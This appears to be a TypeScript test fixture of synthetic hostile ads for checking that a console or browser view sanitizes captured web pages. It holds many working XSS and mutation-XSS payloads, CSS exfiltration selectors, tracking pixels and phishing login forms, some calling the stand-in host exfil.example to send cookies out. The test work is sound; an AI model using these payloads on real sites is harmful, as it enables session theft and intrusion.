/**
 * The hostile-ads corpus: ads written to attack whoever displays them (the investigator console,
 * a reviewer's browser), each still holding synthetic contacts. Every script a payload would run
 * bumps `window.__pwned` (some also call alert() or fetch an outside host), so a test that shows
 * these ads can count executions; every outside URL is on a reserved name (.example), so a request
 * that leaves the viewer's origin is visible by its host.
 *
 * Two kinds of payload matter: markup in the page's HTML (parsed by a browser that renders the
 * captured page) and markup written as text (the page escapes it, so the extracted title and text
 * hold a literal "<script>": what a console that builds HTML from strings would run).
 */

/** What a payload is trying to do; tests report executions per kind. */
export type HostilePayloadKind =
  | 'script-tag'
  | 'event-handler'
  | 'javascript-url'
  | 'mxss-noscript'
  | 'mxss-svg'
  | 'mxss-math'
  | 'css-exfiltration'
  | 'tracking-pixel'
  | 'meta-refresh'
  | 'base-href'
  | 'form'
  | 'remote-resources'
  | 'text-markup';

/** One hostile ad: its HTML parts and the contacts it holds. */
export interface HostileAdSource {
  kind: HostilePayloadKind;
  /** Written into <title> and <h1> escaped: the extracted title holds this literal text. */
  title: string;
  /** Raw HTML put in <head> (payloads that act from there). */
  head: string;
  /** Raw HTML of the ad body; it also writes the contacts below in plain words. */
  body: string;
  /** E.164 of every phone written in the body's text. */
  phones: string[];
  /** Lowercased emails written in the body's text. */
  emails: string[];
}

/** The statement every payload runs: counts an execution in the page that ran it. */
export const pwnedCounter = 'window.__pwned=(window.__pwned||0)+1';
/** Outside hosts payloads reach for (reserved names: nothing answers them). */
export const exfiltrationOrigin = 'http://exfil.example';
export const trackerOrigin = 'http://tracker.example';

const run = pwnedCounter;
const exfil = exfiltrationOrigin;

export const hostileAdSources: readonly HostileAdSource[] = [
  {
    kind: 'script-tag',
    title: `Nina <script>${run};alert('title')</script> new in Las Vegas`,
    head: `<script>${run}</script><script src="${exfil}/steal.js"></script>`,
    body: `<p>Hi, I am Nina.<script>${run};fetch('${exfil}/c?'+document.cookie)</script> Call me on 702-555-0141.</p>
<p>Email nina.hostile@example.com</p><script type="module">${run}</script>`,
    phones: ['+17025550141'],
    emails: ['nina.hostile@example.com'],
  },
  {
    kind: 'event-handler',
    title: 'Sofia "><img src=x onerror="window.__pwned=(window.__pwned||0)+1"> in Chicago',
    head: '',
    body: `<p onmouseover="${run}">Sofia here, visiting Chicago. Text (312) 555-0162.</p>
<img src="/img/pixel-x.png" onerror="${run}" alt="x" width="40" height="40">
<body onload="${run}"><svg onload="${run}"><rect width="5" height="5"/></svg>
<details open ontoggle="${run}"><summary>rates</summary>200 per hour</details>
<input autofocus onfocus="${run}" value="sofia.hostile@example.net">
<video src="/v.mp4" onerror="${run}"></video>
<p>Write to sofia.hostile@example.net</p>`,
    phones: ['+13125550162'],
    emails: ['sofia.hostile@example.net'],
  },
  {
    kind: 'javascript-url',
    title: 'Mia — click javascript:alert(document.domain) for photos',
    head: '',
    body: `<p>Mia in Los Angeles, 213.555.0173.</p>
<p><a href="javascript:${run}">More photos</a> <a href="JaVaScRiPt:${run}">Rates</a>
<a href="&#106;avascript:${run}">Reviews</a> <a href="data:text/html,<script>${run}</script>">Gallery</a></p>
<iframe src="javascript:${run}"></iframe><form action="javascript:${run}"><button>Book</button></form>
<p>Contact mia.hostile@example.org</p>`,
    phones: ['+12135550173'],
    emails: ['mia.hostile@example.org'],
  },
  {
    kind: 'mxss-noscript',
    title: 'Lena <noscript><p title="</noscript><img src=x onerror=window.__pwned=(window.__pwned||0)+1>">',
    head: '',
    body: `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>
<p>Lena, Miami. WhatsApp +1 305 555 0184.</p>
<noscript><style></noscript><img src=x onerror="${run}"></style></noscript>
<p>lena.hostile@example.com</p>`,
    phones: ['+13055550184'],
    emails: ['lena.hostile@example.com'],
  },
  {
    kind: 'mxss-svg',
    title: 'Ivy <svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    head: '',
    body: `<svg></p><style><a id="</style><img src=1 onerror=${run}>"></svg>
<p>Ivy in Houston, call 713 555 0195.</p>
<svg><foreignObject><p>foreign <b>object</b></p></foreignObject><script>${run}</script></svg>
<svg><a xlink:href="javascript:${run}"><text x="5" y="15">open</text></a><animate attributeName="href" to="javascript:${run}"/></svg>
<p>ivy.hostile@example.net</p>`,
    phones: ['+17135550195'],
    emails: ['ivy.hostile@example.net'],
  },
  {
    kind: 'mxss-math',
    title: 'Zoe <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    head: '',
    body: `<math><mtext><table><mglyph><style><img src=x onerror="${run}"></style></mglyph></table></mtext></math>
<math><mi xlink:href="javascript:${run}">x</mi></math>
<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${run} src>"></style></mtext></svg></mglyph></form></mtext></math></form>
<p>Zoe, New York: 212-555-0106, zoe.hostile@example.org</p>`,
    phones: ['+12125550106'],
    emails: ['zoe.hostile@example.org'],
  },
  {
    kind: 'css-exfiltration',
    title: 'Ada in Atlanta — style tricks',
    head: `<style>
input[value^="a"]{background:url(${exfil}/css?v=a)}
input[value^="b"]{background:url(${exfil}/css?v=b)}
a[href^="/"]{background-image:url(${exfil}/css?link)}
@import url(${exfil}/import.css);
@font-face{font-family:x;src:url(${exfil}/font.woff)}
body{font-family:x;background:url(${exfil}/bg.png)}
</style><link rel="stylesheet" href="${exfil}/sheet.css">`,
    body: `<p style="background:url(${exfil}/inline.png)">Ada, Atlanta. Phone 404 555 0117.</p>
<input name="csrf" value="abc123"><a href="/ads">listing</a>
<p>ada.hostile@example.com</p>`,
    phones: ['+14045550117'],
    emails: ['ada.hostile@example.com'],
  },
  {
    kind: 'tracking-pixel',
    title: 'Eve in San Francisco',
    head: `<link rel="prefetch" href="${trackerOrigin}/prefetch"><link rel="dns-prefetch" href="${trackerOrigin}">`,
    body: `<p>Eve, San Francisco, 415-555-0128.</p>
<img src="${trackerOrigin}/pixel.gif?ad=eve" width="1" height="1" alt="">
<img srcset="${trackerOrigin}/srcset.png 1x" alt="">
<picture><source srcset="${trackerOrigin}/source.webp"><img src="${trackerOrigin}/picture.png" alt=""></picture>
<a href="/ads" ping="${trackerOrigin}/ping">back</a>
<video poster="${trackerOrigin}/poster.jpg"></video><audio src="${trackerOrigin}/a.mp3" autoplay></audio>
<p>eve.hostile@example.net</p>`,
    phones: ['+14155550128'],
    emails: ['eve.hostile@example.net'],
  },
  {
    kind: 'meta-refresh',
    title: 'Kim in Las Vegas — moved',
    head: `<meta http-equiv="refresh" content="0;url=${exfil}/refresh"><meta http-equiv="Set-Cookie" content="pwned=1">`,
    body: `<p>Kim, Las Vegas: 702 555 0139.</p><meta http-equiv="refresh" content="1;url=javascript:${run}">
<p>kim.hostile@example.org</p>`,
    phones: ['+17025550139'],
    emails: ['kim.hostile@example.org'],
  },
  {
    kind: 'base-href',
    title: 'Joy in Chicago',
    head: `<base href="${exfil}/base/">`,
    body: `<p>Joy, Chicago, (312) 555-0150.</p><img src="relative.png" alt="relative"><a href="relative-link">more</a>
<script src="relative.js"></script>
<p>joy.hostile@example.com</p>`,
    phones: ['+13125550150'],
    emails: ['joy.hostile@example.com'],
  },
  {
    kind: 'form',
    title: 'Amy — log in to see my number',
    head: '',
    body: `<p>Amy, Los Angeles. 213 555 0161.</p>
<form action="${exfil}/login" method="post"><input name="username"><input type="password" name="password"><button>Log in</button></form>
<form id="f" action="${exfil}/auto"></form><button form="f" formaction="${exfil}/formaction">Go</button>
<p>amy.hostile@example.net</p>`,
    phones: ['+12135550161'],
    emails: ['amy.hostile@example.net'],
  },
  {
    kind: 'remote-resources',
    title: 'Bea in Miami',
    head: `<link rel="icon" href="${exfil}/favicon.ico"><link rel="manifest" href="${exfil}/manifest.json">`,
    body: `<p>Bea, Miami, 305.555.0172.</p>
<iframe src="${exfil}/frame"></iframe><object data="${exfil}/object"></object><embed src="${exfil}/embed">
<p>bea.hostile@example.org</p>`,
    phones: ['+13055550172'],
    emails: ['bea.hostile@example.org'],
  },
  {
    kind: 'text-markup',
    title: '<img src=x onerror=alert(1)>«Cleo»</title><script>alert(2)</script>',
    head: '',
    // Written escaped: the visible text (and the extracted text) is markup, as a scraped forum post is.
    body: `<p>&lt;script&gt;${run}&lt;/script&gt; Cleo, Houston, 713-555-0183 &lt;img src=x onerror="${run}"&gt;</p>
<p>&lt;a href="javascript:${run}"&gt;cleo.hostile@example.com&lt;/a&gt; {{constructor.constructor('${run}')()}} \${${run}}</p>`,
    phones: ['+17135550183'],
    emails: ['cleo.hostile@example.com'],
  },
];
